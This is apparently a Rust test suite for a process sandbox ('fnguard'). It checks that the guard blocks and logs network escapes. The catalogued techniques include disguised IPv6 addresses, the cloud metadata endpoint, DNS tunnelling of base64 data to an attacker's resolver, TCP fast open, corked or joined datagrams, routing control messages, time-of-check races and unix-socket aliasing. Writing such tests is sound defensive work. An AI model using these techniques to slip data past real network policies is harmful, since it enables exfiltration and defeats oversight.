//! Reaching an address that no rule allows.

use crate::attack::{
    ALLOWED, FORBIDDEN, Guard, NET, ROUNDS_TO_WIN, fresh, is_root, loses, rounds, text, until_both,
    until_it_wins, victim,
};
use fnguard_attacks::sink::{Tcp, Udp, Unix, UnixDatagrams};

fnguard_attacks::tests! { "network":
connect, connect_by_descriptor_of_every_disguise, connect_length_of_rfc2133, connect_to_every_zero,
translated_forms_need_both, metadata, datagram, datagram_connect, datagram_reconnect, stream_reconnect,
address_exchanged_while_connecting, message_address_exchanged, descriptor_exchanged,
unspecified_family_is_an_address, unspecified_family_in_a_message, unspecified_bind,
v4_address_on_a_v6_socket, joined_datagram, joined_message, corked_datagram, segmented_datagram,
second_message_of_many, control_messages, control_messages_that_route, descriptors_in_messages, fast_open, fast_open_to_a_resolver, resolver_in_a_datagram,
pointer_with_a_low_half_of_zero, unix_by_every_name, unix_datagrams, listening, listening_without_bind,
unix_listening, listening_on_any_port, }

fn connect() {
    let sink = Tcp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["connect-and-send", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.bytes(), [b"stolen"]);
    let guarded = attack.under_guard(NET);
    assert_eq!(sink.connections(), 0);
    let record = guarded.only_record("network", "connect", &to);
    assert_eq!(record["address"], to);
    assert_eq!(record["rule"], "network.allow");
    assert_eq!(guarded.said("connect"), -13);
    // What is allowed goes on, and is not reported.
    let allowed = Tcp::on(ALLOWED);
    let guarded = victim(["connect-and-send", &allowed.address.to_string(), "honest"]).under_guard(NET);
    assert_eq!(allowed.bytes(), [b"honest"]);
    guarded.no_record();
}

/// IPv4 addresses as IPv6 spells them: mapped, and on a socket of the other family.
fn connect_by_descriptor_of_every_disguise() {
    let sink = Tcp::on(FORBIDDEN);
    let port = sink.address.port();
    let attack = victim(["connect", &format!("[::ffff:203.0.113.9]:{port}")]);
    attack.plain();
    assert_eq!(sink.connections(), 1);
    let guarded = attack.under_guard(NET);
    assert_eq!(sink.connections(), 0);
    guarded.only_record("network", "connect", &format!("203.0.113.9:{port}"));
    // The mapped form of an allowed address is that address.
    let allowed = Tcp::on(ALLOWED);
    let to = format!("[::ffff:198.51.100.7]:{}", allowed.address.port());
    victim(["connect", &to]).under_guard(NET).no_record();
    assert_eq!(allowed.connections(), 1);
}

/// The kernel takes an IPv6 address of 24 bytes, and one of up to 128.
fn connect_length_of_rfc2133() {
    let sink = Tcp::on("[2001:db8:bad::9]");
    let to = sink.address.to_string();
    for length in ["24", "28", "128"] {
        let attack = victim(["connect-length", &to, length]);
        attack.plain();
        assert_eq!(sink.connections(), 1, "length {length}");
        let guarded = attack.under_guard(NET);
        assert_eq!(sink.connections(), 0, "length {length}");
        guarded.only_record("network", "connect", &to);
    }
}

/// 0.0.0.0 and :: are this machine.
fn connect_to_every_zero() {
    let (v4, v6) = (Tcp::on("127.0.0.1"), Tcp::on("[::1]"));
    let (v4_port, v6_port) = (v4.address.port(), v6.address.port());
    for (to, sink) in [
        (format!("0.0.0.0:{v4_port}"), &v4),
        (format!("[::ffff:0.0.0.0]:{v4_port}"), &v4),
        (format!("[::]:{v6_port}"), &v6),
        (format!("127.0.0.1:{v4_port}"), &v4),
    ] {
        let attack = victim(["connect", &to]);
        attack.plain();
        assert_eq!(sink.connections(), 1, "{to}");
        let guarded = attack.under_guard(NET);
        assert_eq!(sink.connections(), 0, "{to}");
        guarded.only_record("network", "connect", &sink.address.to_string());
    }
    // A rule for loopback opens it by that name too, and a rule for 0.0.0.0/8 does not open loopback.
    let rule = format!("[network]\nallow = [\"127.0.0.1:{v4_port}\"]\n");
    victim(["connect", &format!("0.0.0.0:{v4_port}")]).under_guard(&rule).no_record();
    assert_eq!(v4.connections(), 1);
}

/// NAT64 and 6to4 addresses are the IPv4 address that they embed, and themselves: both count.
fn translated_forms_need_both() {
    for address in ["64:ff9b::cb00:7109", "2002:cb00:7109::1"] {
        let sink = Tcp::on(&format!("[{address}]"));
        let port = sink.address.port();
        let to = sink.address.to_string();
        let attack = victim(["connect", &to]);
        attack.plain();
        assert_eq!(sink.connections(), 1, "{to}");
        // The v6 form alone is not enough, since the packet ends at the IPv4 address.
        let rule = format!("[network]\nallow = [\"[{address}]:{port}\"]\n");
        let guarded = attack.under_guard(&rule);
        assert_eq!(sink.connections(), 0, "{to}");
        guarded.only_record("network", "connect", &port.to_string());
        let rule = format!("[network]\nallow = [\"[{address}]:{port}\", \"203.0.113.9:{port}\"]\n");
        attack.under_guard(&rule).no_record();
        assert_eq!(sink.connections(), 1, "{to}");
    }
}

fn metadata() {
    let sink = Tcp::on("169.254.169.254");
    let to = sink.address.to_string();
    let attack = victim(["connect", &to]);
    attack.plain();
    assert_eq!(sink.connections(), 1);
    attack.under_guard(NET).only_record("network", "connect", &to);
    assert_eq!(sink.connections(), 0);
}

fn datagram() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    for technique in ["sendto", "sendmsg"] {
        let attack = victim([technique, &to, "stolen"]);
        attack.plain();
        assert_eq!(sink.datagrams(), [b"stolen"]);
        let guarded = attack.under_guard(NET);
        assert!(sink.datagrams().is_empty());
        guarded.only_record("network", technique, &to);
    }
    let allowed = Udp::on(ALLOWED);
    for technique in ["sendto", "sendmsg"] {
        victim([technique, &allowed.address.to_string(), "honest"]).under_guard(NET).no_record();
        assert_eq!(allowed.datagrams(), [b"honest"]);
    }
}

fn datagram_connect() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["connect-udp", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    let guarded = attack.under_guard(NET);
    assert!(sink.datagrams().is_empty());
    guarded.only_record("network", "connect", &to);
    // A rule for TCP opens no UDP.
    let rule = format!("[network]\nallow = [\"{to}\"]\n");
    attack.under_guard(&rule).only_record("network", "connect", &to);
    assert!(sink.datagrams().is_empty());
}

/// What was decided for one peer says nothing of the next.
fn datagram_reconnect() {
    let (first, second) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
    let attack = victim(["connect-twice", &first.address.to_string(), &second.address.to_string()]);
    attack.plain();
    assert_eq!((first.datagrams().len(), second.datagrams().len()), (1, 1));
    let guarded = attack.under_guard(NET);
    assert!(second.datagrams().is_empty());
    // The refused call has changed nothing: what follows goes to the first peer.
    assert_eq!(first.datagrams(), [b"one", b"two"]);
    guarded.only_record("network", "connect", &second.address.to_string());
}

fn stream_reconnect() {
    let (first, second) = (Tcp::on(ALLOWED), Tcp::on(FORBIDDEN));
    let attack = victim(["connect-unspec", &first.address.to_string(), &second.address.to_string()]);
    attack.plain();
    assert_eq!((first.connections(), second.connections()), (1, 1));
    let guarded = attack.under_guard(NET);
    assert_eq!((first.connections(), second.connections()), (1, 0));
    guarded.only_record("network", "connect", &second.address.to_string());
}

/// Under a guard that lets the call go on after it has looked, this wins: see `notifications`.
fn address_exchanged_while_connecting() {
    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
    let rounds = rounds().to_string();
    let attack =
        victim(["connect-flip", &allowed.address.to_string(), &forbidden.address.to_string(), &rounds])
            .limit(std::time::Duration::from_secs(300));
    let plain = until_it_wins(&attack, |_| !forbidden.datagrams().is_empty());
    assert!(plain, "unguarded it reaches both");
    allowed.datagrams();
    let guarded = until_both(
        || attack.under_guard(NET),
        |guarded| assert!(forbidden.datagrams().is_empty(), "{}", guarded.text()),
        |guarded| guarded.said("went") > 0 && guarded.said("refused") > 0,
    );
    guarded.one_record("network", "connect", &forbidden.address.to_string());
}

fn message_address_exchanged() {
    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
    let rounds = rounds().to_string();
    let attack =
        victim(["sendmsg-flip", &allowed.address.to_string(), &forbidden.address.to_string(), &rounds])
            .limit(std::time::Duration::from_secs(300));
    assert!(until_it_wins(&attack, |_| !forbidden.datagrams().is_empty()), "unguarded it reaches both");
    allowed.datagrams();
    let guarded = attack.under_guard(NET);
    assert!(forbidden.datagrams().is_empty());
    assert!(!allowed.datagrams().is_empty());
    guarded.one_record("network", "sendmsg", &forbidden.address.to_string());
    let (good, bad) = (allowed.address.to_string(), forbidden.address.to_string());
    let longer =
        victim(["sendmsg-flip", &good, &bad, ROUNDS_TO_WIN]).limit(std::time::Duration::from_secs(300));
    loses(&longer, "send", &good, |_| !forbidden.datagrams().is_empty());
}

/// One address, allowed for datagrams only, and a descriptor that is now of one kind and now of
/// the other: the copy that was looked at is the one that is connected.
fn descriptor_exchanged() {
    let sink = Tcp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let _udp = Udp::at(&to);
    let attack = victim(["connect-descriptor-flip", &to, &to, &rounds().to_string()])
        .limit(std::time::Duration::from_secs(300));
    assert!(until_it_wins(&attack, |_| sink.connections() > 0), "unguarded it connects");
    let rule = format!("[network]\nallow = [\"udp/{to}\"]\n");
    until_both(
        || attack.under_guard(&rule),
        |guarded| assert_eq!(sink.connections(), 0, "{}", guarded.text()),
        |guarded| guarded.said("went") > 0 && guarded.said("refused") > 0,
    );
    let longer = victim(["connect-descriptor-flip", &to, &to, ROUNDS_TO_WIN])
        .limit(std::time::Duration::from_secs(300));
    loses(&longer, "kind", "datagram", |_| sink.connections() > 0);
}

/// In a datagram AF_UNSPEC is AF_INET to the kernel.
fn unspecified_family_is_an_address() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["sendto-unspec", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    let guarded = attack.under_guard(NET);
    assert!(sink.datagrams().is_empty());
    guarded.only_record("network", "sendto", &to);
}

fn unspecified_family_in_a_message() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["sendmsg-unspec", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    attack.under_guard(NET).only_record("network", "sendmsg", &to);
    assert!(sink.datagrams().is_empty());
}

fn unspecified_bind() {
    let attack = victim(["bind-unspec"]);
    assert_eq!(attack.plain().said("port"), 4555);
    let guarded = attack.under_guard(NET);
    assert_ne!(guarded.said("port"), 4555);
    guarded.only_record("network", "bind", "4555");
}

fn v4_address_on_a_v6_socket() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["v4-on-v6", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    attack.under_guard(NET).only_record("network", "sendto", &to);
    assert!(sink.datagrams().is_empty());
}

/// To an allowed peer, but with bytes that nobody looked at: for a resolver that is a way out.
fn joined_datagram() {
    let sink = Udp::on(ALLOWED);
    let to = sink.address.to_string();
    let attack = victim(["more", &to]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
    let guarded = attack.under_guard(NET);
    assert!(!sink.datagrams().iter().any(|datagram| datagram.ends_with(b"|unchecked")), "{}", guarded.text());
    guarded.only_record("network", "sendto", "MSG_MORE");
}

fn joined_message() {
    let sink = Udp::on(ALLOWED);
    let to = sink.address.to_string();
    let attack = victim(["more-by-message", &to]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
    let guarded = attack.under_guard(NET);
    assert!(!sink.datagrams().iter().any(|datagram| datagram.ends_with(b"|unchecked")), "{}", guarded.text());
    guarded.only_record("network", "sendmsg", "MSG_MORE");
}

fn corked_datagram() {
    let sink = Udp::on(ALLOWED);
    let attack = victim(["cork", &sink.address.to_string()]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"CHECKED|unchecked"]);
    let guarded = attack.under_guard(NET);
    assert_eq!(sink.datagrams(), [b"CHECKED|"]);
    // On, and off again: the same target.
    guarded.one_record("network", "setsockopt", "level 17, option 1");
}

fn segmented_datagram() {
    let sink = Udp::on(ALLOWED);
    let attack = victim(["segment", &sink.address.to_string()]);
    attack.plain();
    assert_eq!(sink.datagrams().len(), 3);
    let guarded = attack.under_guard(NET);
    assert_eq!(sink.datagrams(), [b"aaaabbbbcccc"]);
    guarded.only_record("network", "setsockopt", "option 103");
}

/// The first is allowed, so that the call goes on to the second.
fn second_message_of_many() {
    let (allowed, forbidden) = (Udp::on(ALLOWED), Udp::on(FORBIDDEN));
    let (good, bad) = (allowed.address.to_string(), forbidden.address.to_string());
    let attack = victim(["sendmmsg", &good, &bad, &good]);
    assert_eq!(attack.plain().said("sendmmsg"), 3);
    assert_eq!((allowed.datagrams().len(), forbidden.datagrams().len()), (2, 1));
    let guarded = attack.under_guard(NET);
    assert_eq!((allowed.datagrams().len(), forbidden.datagrams().len()), (1, 0));
    assert_eq!(guarded.said("sendmmsg"), 1, "it stops where the kernel would");
    guarded.only_record("network", "sendmmsg", &bad);
}

/// Control data that chooses a source, a route, other boundaries.
fn control_messages() {
    let sink = Udp::on(ALLOWED);
    let to = sink.address.to_string();
    for (what, kind) in
        [("pktinfo", "type 8"), ("retopts", "type 7"), ("segment", "type 103"), ("hidden", "type 8")]
    {
        let attack = victim(["control", &to, what]);
        let plain = attack.plain();
        assert!(!sink.datagrams().is_empty(), "{what}: {}", plain.text());
        let guarded = attack.under_guard(NET);
        assert!(sink.datagrams().is_empty(), "{what}");
        guarded.only_record("network", "sendmsg", kind);
    }
    // A header field of the packet's own is honest.
    victim(["control", &to, "tos"]).under_guard(NET).no_record();
    assert_eq!(sink.datagrams(), [b"with control"]);
}

/// The same for IPv6, and the mark that rules of routing go by. Routing headers the kernel may refuse by
/// itself (those of type 2 need CONFIG_IPV6_MIP6, of type 0 none is left), and a mark from an ordinary user:
/// the guard refuses them all, and says so.
fn control_messages_that_route() {
    let (v4, v6) = (Udp::on(ALLOWED), Udp::on("[2001:db8::7]"));
    let policy = format!("[network]\nallow = [\"udp/{}\", \"udp/{}\"]\n", v4.address, v6.address);
    for (what, sink, kind, kernel_may_refuse) in [
        ("mark", &v4, "level 1, type 36", !is_root()),
        ("pktinfo6", &v6, "level 41, type 50", false),
        ("rthdr", &v6, "level 41, type 57", true),
        ("rthdr-source", &v6, "level 41, type 57", true),
        ("2292rthdr", &v6, "level 41, type 5", true),
    ] {
        let attack = victim(["control", &sink.address.to_string(), what]);
        let before = sent();
        let plain = attack.plain();
        // Where there is a way around, that is where the datagram goes.
        if plain.said("sendmsg") > 0 {
            assert_eq!(sent(), before + 1, "{what}\n{}", plain.text());
        } else {
            assert!(kernel_may_refuse, "{what}\n{}", plain.text());
            println!("{what}: not possible here, {}", plain.said("sendmsg"));
        }
        let (before, _) = (sent(), sink.datagrams());
        let guarded = attack.under_guard(&policy);
        assert_eq!((sent(), guarded.said("sendmsg")), (before, -13), "{what}\n{}", guarded.text());
        guarded.only_record("network", "sendmsg", kind);
    }
    victim(["control", &v6.address.to_string(), "tclass"]).under_guard(&policy).no_record();
    assert_eq!(v6.datagrams(), [b"with control"]);
}

/// How many datagrams this network namespace has sent, of either family.
fn sent() -> u64 {
    let read = |path: &str| std::fs::read_to_string(path).expect("the kernel's counters");
    let v6: u64 = (read("/proc/net/snmp6").lines())
        .find_map(|line| line.strip_prefix("Udp6OutDatagrams"))
        .and_then(|value| value.trim().parse().ok())
        .expect("a counter");
    // Two lines, the names and the values.
    let snmp = read("/proc/net/snmp");
    let [names, values] = ["Udp: I", "Udp: "].map(|start| {
        snmp.lines()
            .rev()
            .find(|line| line.starts_with(start))
            .expect("a line")
            .split(' ')
            .collect::<Vec<_>>()
    });
    let at = names.iter().position(|&name| name == "OutDatagrams").expect("a column");
    v6 + values[at].parse::<u64>().expect("a counter")
}

/// Numbers in SCM_RIGHTS would be looked up in the arbiter's table.
fn descriptors_in_messages() {
    let path = fresh("rights.sock");
    let sink = UnixDatagrams::at(&path);
    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
    let attack = victim(["rights", text(&path)]);
    let plain = attack.plain();
    assert!(!sink.datagrams().is_empty(), "{}", plain.text());
    let guarded = attack.under_guard(&rule);
    assert!(sink.datagrams().is_empty(), "{}", guarded.text());
    guarded.only_record("network", "sendmsg", "level 1, type 1");
}

fn fast_open() {
    let sink = Tcp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["fast-open", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.bytes(), [b"stolen"]);
    let guarded = attack.under_guard(NET);
    assert_eq!(sink.connections(), 0);
    guarded.one_record("network", "sendto", &to);
    guarded.one_record("network", "setsockopt", "level 6, option 30");
    // To an allowed peer a blocking socket waits, as the kernel has it, and all of it arrives.
    let allowed = Tcp::on(ALLOWED);
    let guarded = victim(["fast-open", &allowed.address.to_string(), "honest"]).under_guard(NET);
    assert_eq!(allowed.bytes(), [b"honest"]);
    assert_eq!(guarded.said("sendto"), 6, "{}", guarded.text());
}

/// A query by a stream that is connected and written to by one call: to a resolver of the
/// attacker's, even where the policy lets the function connect there.
fn fast_open_to_a_resolver() {
    let sink = Tcp::at(&format!("{ALLOWED}:53"));
    let to = sink.address.to_string();
    for call in ["sendto", "sendmsg", "sendmmsg"] {
        for way in ["waits", "does-not-wait"] {
            let attack = victim(["fast-open-query", call, way, &to, "c2VjcmV0.tunnel.example"]);
            let plain = attack.plain();
            let stolen = sink.bytes();
            assert!(
                matches!(&stolen[..], [query] if query.windows(8).any(|part| part == b"c2VjcmV0")),
                "{call}, {way}: {stolen:?}\n{}",
                plain.text()
            );
            // The proxy, which is there now, answers.
            let guarded = attack.with(["reads"]).under_guard(NET);
            assert_eq!(sink.connections(), 0, "{call}, {way}\n{}", guarded.text());
            guarded.only_record("network", "lookup", "c2vjcmv0.tunnel.example");
        }
    }
}

/// A query that carries what it wants to carry, to a resolver of the attacker's.
fn resolver_in_a_datagram() {
    let sink = Udp::at(&format!("{FORBIDDEN}:53"));
    let to = sink.address.to_string();
    let attack = victim(["resolver", &to, "c2VjcmV0.tunnel.example"]);
    attack.plain();
    assert_eq!(sink.datagrams().len(), 2);
    // Even where the policy lets the function send there.
    for policy in [NET, &format!("[network]\nallow = [\"udp/{to}\"]\n")] {
        let guarded = attack.under_guard(policy);
        assert!(sink.datagrams().is_empty(), "{}", guarded.text());
        guarded.only_record("network", "lookup", "c2vjcmv0.tunnel.example");
    }
}

fn pointer_with_a_low_half_of_zero() {
    let sink = Udp::on(FORBIDDEN);
    let to = sink.address.to_string();
    let attack = victim(["pointer-high-bits", &to, "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    let guarded = attack.under_guard(NET);
    assert!(sink.datagrams().is_empty());
    guarded.only_record("network", "sendto", &to);
}

/// One socket by all its names, and abstract ones by bytes and length.
fn unix_by_every_name() {
    let path = fresh("daemon.sock");
    let sink = Unix::at(&path);
    let link = fresh("link.sock");
    std::os::unix::fs::symlink(&path, &link).expect("a link");
    let spelled = format!("/proc/self/root{}", text(&path));
    let dotted = text(&path).replacen("/tmp/", "/tmp/../tmp/./", 1);
    let doubled = text(&path).replacen("/tmp/", "//tmp//", 1);
    for name in [text(&path), text(&link), &spelled, &dotted, &doubled] {
        let attack = victim(["unix-stream", name]);
        attack.plain();
        assert_eq!(sink.connections(), 1, "{name}");
        let guarded = attack.under_guard(NET);
        assert_eq!(sink.connections(), 0, "{name}");
        assert_eq!(guarded.records("violation").len(), 1, "{name}\n{}", guarded.text());
    }
    // The rule names the socket; a link to it leads to the same, and is allowed.
    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
    for name in [text(&path), text(&link), &dotted] {
        victim(["unix-stream", name]).under_guard(&rule).no_record();
        assert_eq!(sink.connections(), 1, "{name}");
    }
    // A link whose name the policy has, to a socket that it has not.
    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&link));
    victim(["unix-stream", text(&link)]).under_guard(&rule).one_record("network", "connect", text(&path));
    assert_eq!(sink.connections(), 0);

    let name = format!("fnguard-attack-{}", std::process::id());
    let (sink, longer) = (Unix::named(name.as_bytes()), Unix::named(format!("{name}\0").as_bytes()));
    let attack = victim(["unix-stream", &format!("@{name}")]);
    attack.plain();
    assert_eq!(sink.connections(), 1);
    attack.under_guard(NET).only_record("network", "connect", &name);
    assert_eq!(sink.connections(), 0);
    let rule = format!("[network]\nallow = [\"unix:@{name}\"]\n");
    attack.under_guard(&rule).no_record();
    assert_eq!(sink.connections(), 1);
    // The same name with a NUL behind it is another.
    let attack = victim(["unix-stream", &format!("@{name}\\0")]);
    attack.plain();
    assert_eq!(longer.connections(), 1);
    attack.under_guard(&rule).only_record("network", "connect", &name);
    assert_eq!(longer.connections(), 0);
}

fn unix_datagrams() {
    let path = fresh("log.sock");
    let sink = UnixDatagrams::at(&path);
    let attack = victim(["unix-datagram", text(&path), "stolen"]);
    attack.plain();
    assert_eq!(sink.datagrams(), [b"stolen"]);
    attack.under_guard(NET).only_record("network", "sendto", text(&path));
    assert!(sink.datagrams().is_empty());
    let rule = format!("[network]\nallow = [\"unix:{}\"]\n", text(&path));
    attack.under_guard(&rule).no_record();
    assert_eq!(sink.datagrams(), [b"stolen"]);
}

fn listening() {
    for at in ["127.0.0.1:4556", "0.0.0.0:4557"] {
        let attack = victim(["bind-listen", at]);
        let plain = attack.plain();
        assert_eq!(plain.list("open"), ["true"], "{}", plain.text());
        let guarded = attack.under_guard(NET);
        assert_eq!(guarded.list("open"), ["false"]);
        guarded.one_record("network", "bind", at.rsplit(':').next().expect("a port"));
        assert!(guarded.said("bind") < 0);
    }
}

/// The kernel's own list says how many listen.
fn listening_without_bind() {
    let attack = victim(["listen-unbound"]);
    assert_eq!(attack.plain().said("listeners"), 1);
    let guarded = attack.under_guard(NET);
    assert_eq!(guarded.said("listeners"), 0, "{}", guarded.text());
    guarded.only_record("network", "listen", "0");
}

/// The arbiter, which would make the socket, is held by no Landlock domain: the rules are.
fn unix_listening() {
    let folder = fresh("closed");
    std::fs::create_dir(&folder).expect("a directory");
    let path = folder.join("backdoor.sock");
    let attack = victim(["unix-listen", text(&path)]);
    attack.plain();
    assert!(path.exists());
    std::fs::remove_file(&path).expect("it is there");
    // Allowed to listen there, but not to write there.
    let policy = format!("[network]\nlisten = [\"unix:{}\"]\n[files]\nwrite = []\n", text(&path));
    let guarded = attack.under_guard(&policy);
    assert!(!path.exists(), "{}", guarded.text());
    guarded.one_record("files", "bind", text(&path));
    let guarded = attack.under_guard(NET);
    assert!(!path.exists());
    guarded.one_record("network", "bind", text(&path));
}

/// Port 0 in a rule is any port that is free: of that address, and not of another.
fn listening_on_any_port() {
    let attack = victim(["bind-listen-any", "127.0.0.1:0"]);
    assert_eq!(attack.plain().said("listeners"), 1);
    let guarded = attack.under_guard(NET);
    assert_eq!(guarded.said("listeners"), 0, "{}", guarded.text());
    guarded.only_record("network", "listen", "127.0.0.1:");
    let rule = "[network]\nlisten = [\"127.0.0.1:0\"]\n";
    let guarded = attack.under_guard(rule);
    assert_eq!(guarded.said("listeners"), 1, "{}", guarded.text());
    guarded.no_record();
    let guarded = victim(["bind-listen-any", "0.0.0.0:0"]).under_guard(rule);
    assert_eq!(guarded.said("listeners"), 0, "{}", guarded.text());
    guarded.only_record("network", "listen", "0.0.0.0:");
    // A port of the function's own choice is not any.
    victim(["bind-listen", "127.0.0.1:4558"]).under_guard(rule).one_record("network", "bind", "4558");
}
